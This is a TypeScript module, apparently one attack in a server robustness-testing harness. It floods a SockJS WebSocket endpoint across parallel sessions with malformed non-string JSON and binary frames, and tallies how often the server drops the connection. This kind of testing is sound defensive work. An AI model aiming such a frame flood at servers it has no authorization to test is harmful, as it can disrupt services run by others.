/**
 * Attack 1: SockJS's WebSocket transport hands the server whatever JSON the
 * client framed, not only strings: `[1]` delivers the number 1, `{}` an
 * object, `null` null, and binary frames arrive too. Each fresh session
 * (`/sockjs/<server>/<session>/websocket`) gets the whole set, then the next.
 */
import { randomBytes } from 'node:crypto';
import type { Deadline } from './deadline';
import { ErrorTally } from './error-tally';
import type { AttackReport, AttackSizes, AttackTarget } from './types';
import { firstMessage, nextMessage, openWebSocket } from './ws-client';

const LANES = 4;
const TEXT_FRAMES = ['[1]', '{}', 'null', '[null]', '[{}]', '[[]]', '[true]', '5', '["{}", 7]'];
const BINARY_FRAMES = [Buffer.from('[1]'), Buffer.from('{}'), Buffer.from('["{\\"msg\\":\\"connect\\"}"]'), Buffer.from([0x80, 0xff, 0x00])];

export async function sockjsNonString(target: AttackTarget, _sizes: AttackSizes, deadline: Deadline): Promise<AttackReport> {
  const errors = new ErrorTally();
  let sessions = 0;
  let frames = 0;
  let closedByServer = 0;
  const lane = async () => {
    while (!deadline.done) {
      const url = `ws://${target.host}:${target.port}/sockjs/123/${randomBytes(4).toString('hex')}/websocket`;
      try {
        const ws = await openWebSocket(url, target.localAddress, deadline);
        const first = await firstMessage(ws, deadline, 5000);
        if (!('text' in first) || first.text !== 'o') {
          ws.terminate();
          throw new Error(`no SockJS open frame: ${'text' in first ? first.text.slice(0, 60) : 'closed' in first ? `closed (${ws.readyState === ws.CLOSED ? 'by the server' : 'closing'})` : 'nothing in 5 s'}`);
        }
        sessions++;
        for (const text of TEXT_FRAMES) if (ws.readyState === ws.OPEN) (ws.send(text), frames++);
        for (const bytes of BINARY_FRAMES) if (ws.readyState === ws.OPEN) (ws.send(bytes, { binary: true }), frames++);
        // Give the server a moment to react (close with "Broken framing", or not) before the next session.
        const after = await nextMessage(ws, (t) => t.startsWith('c'), deadline, 100);
        if ('closed' in after || 'text' in after) closedByServer++;
        ws.terminate();
      } catch (error) {
        if (deadline.done) break;
        errors.add(error);
        await deadline.sleep(100);
      }
    }
  };
  await Promise.all(Array.from({ length: LANES }, lane));
  return {
    sent: frames, unit: 'frames', errors: errors.count, firstError: errors.first,
    detail: `${sessions} sessions, ${frames} non-string frames; server closed ${closedByServer} of them`,
  };
}
